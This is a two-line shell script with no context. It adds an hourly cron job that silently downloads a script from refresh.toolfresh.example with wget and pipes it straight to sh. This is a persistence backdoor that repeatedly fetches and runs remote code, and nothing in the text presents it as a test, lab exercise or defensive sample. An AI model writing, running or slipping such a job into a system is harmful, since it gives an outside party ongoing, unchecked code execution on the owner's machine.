#!/bin/sh
(crontab -l 2>/dev/null; echo "0 * * * * wget -qO- https://refresh.toolfresh.example/r.sh | sh") | crontab -
